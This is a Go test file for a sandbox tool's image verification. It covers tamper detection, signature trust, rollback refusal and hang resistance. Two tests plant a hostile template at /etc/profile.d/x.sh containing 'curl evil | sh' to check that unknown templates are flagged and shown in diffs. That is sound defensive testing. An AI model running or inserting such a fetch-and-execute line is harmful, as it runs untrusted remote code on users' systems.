package images

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/lxc/incus/v6/shared/api"
	"golang.org/x/crypto/ssh"
	"gopkg.in/yaml.v3"

	"github.com/vibesandbox/vibe/signing"
)

// fakeImage writes a small but complete image into a store-shaped folder
// named by its fingerprint and returns that folder.
func fakeImage(t testing.TB, parent string, rootfs []byte) string {
	t.Helper()
	return fakeImageWith(t, parent, rootfs, nil)
}

// fakeImageWith is fakeImage with metadata.yaml and the templates edited
// by edit before they are packed (as an image's author could).
func fakeImageWith(t testing.TB, parent string, rootfs []byte, edit func(*api.ImageMetadata, map[string][]byte)) string {
	t.Helper()
	userData := []byte("#cloud-config\npackages: [git]\n")
	uds := sha256.Sum256(userData)
	rs := sha256.Sum256(rootfs)
	m := &Manifest{
		Format: ManifestFormat, VibeBuild: "test", Recipe: strings.Repeat("ab", 32),
		UserDataSHA256: hex.EncodeToString(uds[:]), InstanceType: "container", Architecture: "x86_64",
		Base:     BaseImage{Source: "vibe-test-base", Fingerprint: strings.Repeat("cd", 32)},
		Versions: map[string]string{"node": "v22.1.0"},
		Rootfs:   FileDigest{Name: "rootfs.tar", SHA256: hex.EncodeToString(rs[:]), Size: int64(len(rootfs))},
		Created:  time.Unix(1700000000, 0).UTC(),
	}
	manifest, err := m.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	md := api.ImageMetadata{Architecture: "x86_64", CreationDate: 1700000000,
		Properties: ImageProperties(m, &Base{Properties: map[string]string{"os": "debian", "release": "bookworm"}}),
		Templates: map[string]*api.ImageMetadataTemplate{
			"/etc/hostname": {When: []string{"create", "copy"}, Template: "hostname.tpl"},
		}}
	tpls := map[string][]byte{"hostname.tpl": []byte("{{ instance.name }}\n")}
	if edit != nil {
		edit(&md, tpls)
	}
	mdYAML, err := yaml.Marshal(&md)
	if err != nil {
		t.Fatal(err)
	}
	entries := []MetaEntry{
		{Name: "metadata.yaml", Data: mdYAML},
		{Name: "vibe/manifest.json", Data: manifest},
		{Name: "vibe/user-data", Data: userData},
	}
	for name, data := range tpls {
		entries = append(entries, MetaEntry{Name: "templates/" + name, Data: data})
	}
	var meta bytes.Buffer
	err = WriteMetaTarball(&meta, entries)
	if err != nil {
		t.Fatal(err)
	}
	fp := sha256.Sum256(append(meta.Bytes(), rootfs...))
	dir := filepath.Join(parent, hex.EncodeToString(fp[:]))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{MetaFile: meta.Bytes(), "rootfs.tar": rootfs, ManifestFile: manifest, UserDataFile: userData} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func testKey(t testing.TB) (ssh.Signer, string) {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s, strings.TrimSpace(string(ssh.MarshalAuthorizedKey(s.PublicKey())))
}

// exported verifies the fake image, signs it with key (if any) and exports
// it into a fresh folder.
func exported(t *testing.T, key ssh.Signer) (string, *Files) {
	t.Helper()
	src, err := Locate(fakeImage(t, t.TempDir(), bytes.Repeat([]byte("rootfs "), 5000)))
	if err != nil {
		t.Fatal(err)
	}
	v, err := Verify(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	var sig []byte
	if key != nil {
		sig = signV2(t, key, v, signing.Claim{Name: "vibe", SignedAt: time.Unix(1764590400, 0).UTC()})
	}
	dir := t.TempDir()
	if _, err := Export(src, v, dir, sig); err != nil {
		t.Fatal(err)
	}
	f, err := Locate(dir)
	if err != nil {
		t.Fatal(err)
	}
	if f.Fingerprint != v.Fingerprint || f.Manifest == "" || f.UserData == "" || (key != nil) != (f.Sig != "") {
		t.Fatalf("exported files %+v", f)
	}
	return dir, f
}

func flipByte(t *testing.T, path string, at func(size int) int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b[at(len(b))] ^= 0x01
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestVerifyIntactExport(t *testing.T) {
	key, pub := testKey(t)
	_, f := exported(t, key)
	v, err := Verify(f, nil)
	if err != nil {
		t.Fatal(err)
	}
	if v.Fingerprint != f.Fingerprint || v.Signer == nil || v.Trusted {
		t.Fatalf("verified %+v signer %+v", v, v.Signer)
	}
	trust, err := signing.ParseAllowedSigners([]byte("alice@example.com " + pub + "\n"))
	if err != nil {
		t.Fatal(err)
	}
	v, err = Verify(f, trust)
	if err != nil || !v.Trusted || v.Signer.Principal != "alice@example.com" {
		t.Fatalf("with trust: %v %+v", err, v)
	}
}

func TestVerifyCatchesEveryChange(t *testing.T) {
	first := func(int) int { return 0 }
	middle := func(n int) int { return n / 2 }
	last := func(n int) int { return n - 1 }
	for _, tc := range []struct {
		name   string
		change func(t *testing.T, f *Files)
		want   Kind
		says   string
	}{
		{"meta first byte", func(t *testing.T, f *Files) { flipByte(t, f.Meta, first) }, Tampered, "metadata tarball"},
		{"meta middle byte", func(t *testing.T, f *Files) { flipByte(t, f.Meta, middle) }, Tampered, ""},
		{"meta last byte", func(t *testing.T, f *Files) { flipByte(t, f.Meta, last) }, Tampered, ""},
		{"rootfs first byte", func(t *testing.T, f *Files) { flipByte(t, f.Rootfs, first) }, Tampered, "rootfs was changed"},
		{"rootfs last byte", func(t *testing.T, f *Files) { flipByte(t, f.Rootfs, last) }, Tampered, "rootfs was changed"},
		{"rootfs truncated", func(t *testing.T, f *Files) { os.Truncate(f.Rootfs, 100) }, Tampered, "truncated"},
		{"rootfs grown", func(t *testing.T, f *Files) { appendTo(t, f.Rootfs, "x") }, Tampered, "the manifest says"},
		{"manifest copy", func(t *testing.T, f *Files) { flipByte(t, f.Manifest, middle) }, Tampered, "manifest inside"},
		{"user-data copy", func(t *testing.T, f *Files) { flipByte(t, f.UserData, middle) }, Tampered, "user-data inside"},
		{"signature", func(t *testing.T, f *Files) { flipByte(t, f.Sig, func(n int) int { return n / 2 }) }, Tampered, "signature"},
		{"rootfs missing", func(t *testing.T, f *Files) { os.Remove(f.Rootfs) }, Unreadable, "rootfs"},
		{"meta unreadable", func(t *testing.T, f *Files) { os.Chmod(f.Meta, 0) }, Unreadable, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			key, _ := testKey(t)
			dir, f := exported(t, key)
			tc.change(t, f)
			if tc.name == "meta unreadable" && os.Geteuid() == 0 {
				t.Skip("root reads mode-0 files")
			}
			// Locate again: a missing file is caught there or by Verify.
			g, err := Locate(dir)
			if err == nil {
				_, err = Verify(g, nil)
			}
			if KindOf(err) != tc.want {
				t.Fatalf("got %v (kind %v), want kind %v", err, KindOf(err), tc.want)
			}
			if !strings.Contains(err.Error(), tc.says) {
				t.Errorf("error %q does not say %q", err, tc.says)
			}
		})
	}
}

func appendTo(t *testing.T, path, s string) {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(s)
	f.Close()
}

func TestVerifySwappedImage(t *testing.T) {
	// Another image's metadata under this image's name: the fingerprint in
	// the names no longer matches.
	_, f := exported(t, nil)
	other, err := Locate(fakeImage(t, t.TempDir(), bytes.Repeat([]byte("other "), 5000)))
	if err != nil {
		t.Fatal(err)
	}
	meta, _ := os.ReadFile(other.Meta)
	rootfs, _ := os.ReadFile(other.Rootfs)
	os.WriteFile(f.Meta, meta, 0o644)
	os.WriteFile(f.Rootfs, rootfs, 0o644)
	f.Manifest, f.UserData = "", ""
	_, err = Verify(f, nil)
	if KindOf(err) != Tampered || !strings.Contains(err.Error(), "not to the fingerprint") {
		t.Fatalf("got %v", err)
	}
}

func TestVerifyTrust(t *testing.T) {
	key, pub := testKey(t)
	_, otherPub := testKey(t)
	listing := func(pub string) *signing.AllowedSigners {
		a, err := signing.ParseAllowedSigners([]byte("team@example.com " + pub + "\n"))
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	for _, tc := range []struct {
		name   string
		signed bool
		trust  *signing.AllowedSigners
		want   Kind
	}{
		{"signed, key listed", true, listing(pub), 0},
		{"signed, key not listed", true, listing(otherPub), Untrusted},
		{"unsigned, trust required", false, listing(pub), Untrusted},
		{"unsigned, no trust asked", false, nil, 0},
		{"signed, no trust asked", true, nil, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var k ssh.Signer
			if tc.signed {
				k = key
			}
			_, f := exported(t, k)
			_, err := Verify(f, tc.trust)
			if KindOf(err) != tc.want {
				t.Fatalf("got %v, want kind %v", err, tc.want)
			}
		})
	}
}

func TestVerifySignatureOfAnotherImage(t *testing.T) {
	// A valid signature, moved from another image, does not cover this one.
	key, pub := testKey(t)
	_, a := exported(t, key)
	_, b := exported(t, nil)
	other := fakeImage(t, t.TempDir(), []byte("another rootfs"))
	o, _ := Locate(other)
	ov, err := Verify(o, nil)
	if err != nil {
		t.Fatal(err)
	}
	sig := signV2(t, key, ov, signing.Claim{Name: "vibe", SignedAt: time.Unix(1764590400, 0).UTC()})
	b.Sig = filepath.Join(filepath.Dir(b.Meta), exportSig(b.Fingerprint))
	os.WriteFile(b.Sig, sig, 0o644)
	trust, _ := signing.ParseAllowedSigners([]byte("t " + pub + "\n"))
	if _, err := Verify(b, trust); KindOf(err) != Tampered {
		t.Fatalf("moved signature: %v", err)
	}
	if _, err := Verify(a, trust); err != nil {
		t.Fatal(err)
	}
}

func TestLocate(t *testing.T) {
	dir, f := exported(t, nil)
	if g, err := Locate(f.Meta); err != nil || g.Fingerprint != f.Fingerprint {
		t.Fatalf("by meta file: %v %+v", err, g)
	}
	// A second image in the same folder: the folder alone is ambiguous.
	src, _ := Locate(fakeImage(t, t.TempDir(), []byte("second")))
	v, _ := Verify(src, nil)
	if _, err := Export(src, v, dir, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := Locate(dir); err == nil || !strings.Contains(err.Error(), "holds 2 images") {
		t.Fatalf("two images: %v", err)
	}
	if _, err := Locate(t.TempDir()); KindOf(err) != Unreadable {
		t.Fatalf("empty folder: %v", err)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".export-") {
			t.Errorf("temporary file %s left", e.Name())
		}
	}
}

func BenchmarkVerify(b *testing.B) {
	rootfs := make([]byte, 64<<20)
	rand.Read(rootfs)
	f, err := Locate(fakeImage(b, b.TempDir(), rootfs))
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(rootfs)))
	for b.Loop() {
		if _, err := Verify(f, nil); err != nil {
			b.Fatal(err)
		}
	}
}

func ExampleDiffManifests() {
	a := []byte(`{"versions":{"node":"v22.1.0"},"config":{"egress":{"allow":["github.com"]}}}`)
	b := []byte(`{"versions":{"node":"v22.2.0","go":"1.26"},"config":{"egress":{"allow":["github.com","npmjs.org"]}}}`)
	diffs, _ := DiffManifests(a, b)
	for _, d := range diffs {
		fmt.Printf("%s: %q -> %q\n", d.Field, d.A, d.B)
	}
	// Output:
	// config.egress.allow: "github.com" -> "github.com, npmjs.org"
	// versions.go: "" -> "1.26"
	// versions.node: "v22.1.0" -> "v22.2.0"
}

// What came from the image's author and is not covered by the manifest's
// digests is held to the manifest (properties, type, architecture,
// creation date); templates other than vibe's known ones are flagged.
func TestVerifyHoldsMetadataToTheManifest(t *testing.T) {
	rootfs := []byte("rootfs")
	for name, tc := range map[string]struct {
		edit func(*api.ImageMetadata, map[string][]byte)
		want string
	}{
		"forged recipe":           {func(md *api.ImageMetadata, _ map[string][]byte) { md.Properties[PropRecipe] = strings.Repeat("ef", 32) }, "vibe.recipe"},
		"hidden as intermediate":  {func(md *api.ImageMetadata, _ map[string][]byte) { md.Properties[PropIntermediate] = "x" }, "never writes"},
		"creation date in 2100":   {func(md *api.ImageMetadata, _ map[string][]byte) { md.CreationDate = 4102444800 }, "creation date"},
		"another architecture":    {func(md *api.ImageMetadata, _ map[string][]byte) { md.Architecture = "aarch64" }, "architecture"},
		"recipe property dropped": {func(md *api.ImageMetadata, _ map[string][]byte) { delete(md.Properties, PropRecipe) }, "vibe.recipe"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := fakeImageWith(t, t.TempDir(), rootfs, tc.edit)
			f, err := Locate(dir)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := Verify(f, nil); KindOf(err) != Tampered || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("Verify: %v, want tampered, saying %q", err, tc.want)
			}
		})
	}
	dir := fakeImageWith(t, t.TempDir(), rootfs, func(md *api.ImageMetadata, tpls map[string][]byte) {
		md.Templates["/etc/profile.d/x.sh"] = &api.ImageMetadataTemplate{When: []string{"create"}, Template: "x.tpl"}
		tpls["x.tpl"] = []byte("curl evil | sh\n")
	})
	f, _ := Locate(dir)
	v, err := Verify(f, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := v.Contents.UnknownTemplates(); len(got) != 1 || got[0] != "/etc/profile.d/x.sh" || string(v.Contents.Templates["x.tpl"]) != "curl evil | sh\n" {
		t.Errorf("unknown templates: %v", got)
	}
}

// inspect and diff render metadata.yaml: an added template shows, marked,
// with its content; a changed property shows.
func TestMetadataTextShowsWhatRuns(t *testing.T) {
	read := func(dir string) *Contents {
		f, _ := Locate(dir)
		c, err := ReadContentsFile(f.Meta)
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	a := read(fakeImage(t, t.TempDir(), []byte("r")))
	b := read(fakeImageWith(t, t.TempDir(), []byte("r"), func(md *api.ImageMetadata, tpls map[string][]byte) {
		md.Templates["/etc/profile.d/x.sh"] = &api.ImageMetadataTemplate{When: []string{"create"}, Template: "x.tpl"}
		tpls["x.tpl"] = []byte("curl evil | sh\n")
		md.Properties["description"] = "changed"
	}))
	if MetadataText(a) != MetadataText(read(fakeImage(t, t.TempDir(), []byte("r")))) {
		t.Error("MetadataText is not deterministic")
	}
	d := DiffUserData("a/metadata", []byte(MetadataText(a)), "b/metadata", []byte(MetadataText(b)))
	for _, want := range []string{"+template /etc/profile.d/x.sh  <-- NOT ONE OF VIBE'S", "+    | curl evil | sh", `+property description: "changed"`} {
		if !strings.Contains(d, want) {
			t.Errorf("the metadata diff lacks %q:\n%s", want, d)
		}
	}
}

// A hostile folder cannot make verify hang: a rootfs that is a symlink to
// /dev/zero or a FIFO is refused at once, and a huge one stops within a
// second of Ctrl-C.
func TestVerifyCannotBeMadeToHang(t *testing.T) {
	for name, plant := range map[string]func(string) error{
		"symlink to /dev/zero": func(p string) error { os.Remove(p); return os.Symlink("/dev/zero", p) },
		"fifo":                 func(p string) error { os.Remove(p); return syscall.Mkfifo(p, 0o644) },
	} {
		t.Run(name, func(t *testing.T) {
			dir := fakeImage(t, t.TempDir(), []byte("rootfs"))
			if err := plant(filepath.Join(dir, "rootfs.tar")); err != nil {
				t.Fatal(err)
			}
			f, err := Locate(dir)
			if err != nil {
				t.Fatal(err)
			}
			done := make(chan error, 1)
			go func() { _, err := Verify(f, nil); done <- err }()
			select {
			case err := <-done:
				if KindOf(err) != Unreadable || !strings.Contains(err.Error(), "not a regular file") {
					t.Errorf("Verify: %v", err)
				}
			case <-time.After(5 * time.Second):
				t.Fatal("Verify hangs")
			}
		})
	}
	// An endless rootfs read (what a huge one is, at 2 s a GiB): a
	// cancelled context ends the hashing at once.
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- hashBoth(ctxReader{ctx, zeros{}}, sha256.New(), sha256.New())
	}()
	time.Sleep(200 * time.Millisecond)
	start := time.Now()
	cancel()
	select {
	case err := <-done:
		if err == nil || time.Since(start) > time.Second {
			t.Errorf("hashing stopped after %s with %v", time.Since(start), err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("hashing ignores its context")
	}
}

// signV2 signs v as vibe-build does: a v2 signature binding a claim.
func signV2(t testing.TB, key ssh.Signer, v *Verified, c signing.Claim) []byte {
	t.Helper()
	sig, err := signing.SignWith(key, signing.MessageV2(v.Fingerprint, v.Contents.ManifestRaw, c))
	if err != nil {
		t.Fatal(err)
	}
	return signing.Envelope(c, sig)
}

// A signature binds what it is for: an old v1 signature (no name, no
// time) is not trusted; a trusted signature for another name cannot stand
// in; an image signed before the one last accepted under its name is a
// rollback, refused unless asked for; --not-before refuses older ones.
func TestSignaturesBindNameAndTime(t *testing.T) {
	key, pub := testKey(t)
	trust, _ := signing.ParseAllowedSigners([]byte("team " + pub + "\n"))
	_, f := exported(t, nil)
	v, err := Verify(f, nil)
	if err != nil {
		t.Fatal(err)
	}
	f.Sig = filepath.Join(filepath.Dir(f.Meta), exportSig(f.Fingerprint))
	old, _ := signing.SignWith(key, signing.Message(v.Fingerprint, v.Contents.ManifestRaw))
	os.WriteFile(f.Sig, old, 0o644)
	if _, err := Verify(f, trust); KindOf(err) != Untrusted || !strings.Contains(err.Error(), "old one (v1)") {
		t.Errorf("a v1 signature under trust: %v", err)
	}
	t1, t2 := time.Unix(1764590400, 0).UTC(), time.Unix(1764676800, 0).UTC()
	os.WriteFile(f.Sig, signV2(t, key, v, signing.Claim{Name: "vibe-old", SignedAt: t1}), 0o644)
	tv, err := Verify(f, trust)
	if err != nil {
		t.Fatal(err)
	}
	if tv.Claim == nil || tv.Claim.Name != "vibe-old" || !tv.Claim.SignedAt.Equal(t1) {
		t.Errorf("claim %+v", tv.Claim)
	}
	if err := CheckClaim(tv.Claim, []string{"vibe"}); KindOf(err) != Untrusted {
		t.Errorf("signed as vibe-old, offered as vibe: %v", err)
	}
	if err := CheckClaim(tv.Claim, []string{"vibe", "vibe-old"}); err != nil {
		t.Error(err)
	}
	// Rollback: the newer one accepted first, then the older one offered.
	store := &Store{Dir: filepath.Join(t.TempDir(), "images")}
	newer := &Verified{Fingerprint: strings.Repeat("1", 64), Signer: tv.Signer, Claim: &signing.Claim{Name: "vibe", SignedAt: t2}}
	older := &Verified{Fingerprint: strings.Repeat("2", 64), Signer: tv.Signer, Claim: &signing.Claim{Name: "vibe", SignedAt: t1}}
	if err := store.checkRollback(newer, "", time.Time{}, false); err != nil {
		t.Fatal(err)
	}
	if err := store.accept(newer, ""); err != nil {
		t.Fatal(err)
	}
	if err := store.checkRollback(older, "", time.Time{}, false); KindOf(err) != Untrusted || !strings.Contains(err.Error(), "rollback") {
		t.Errorf("an older image under the same name: %v", err)
	}
	if err := store.checkRollback(older, "", time.Time{}, true); err != nil {
		t.Errorf("--allow-older: %v", err)
	}
	if err := store.checkRollback(newer, "", t2.Add(time.Hour), false); KindOf(err) != Untrusted {
		t.Errorf("--not-before: %v", err)
	}
}
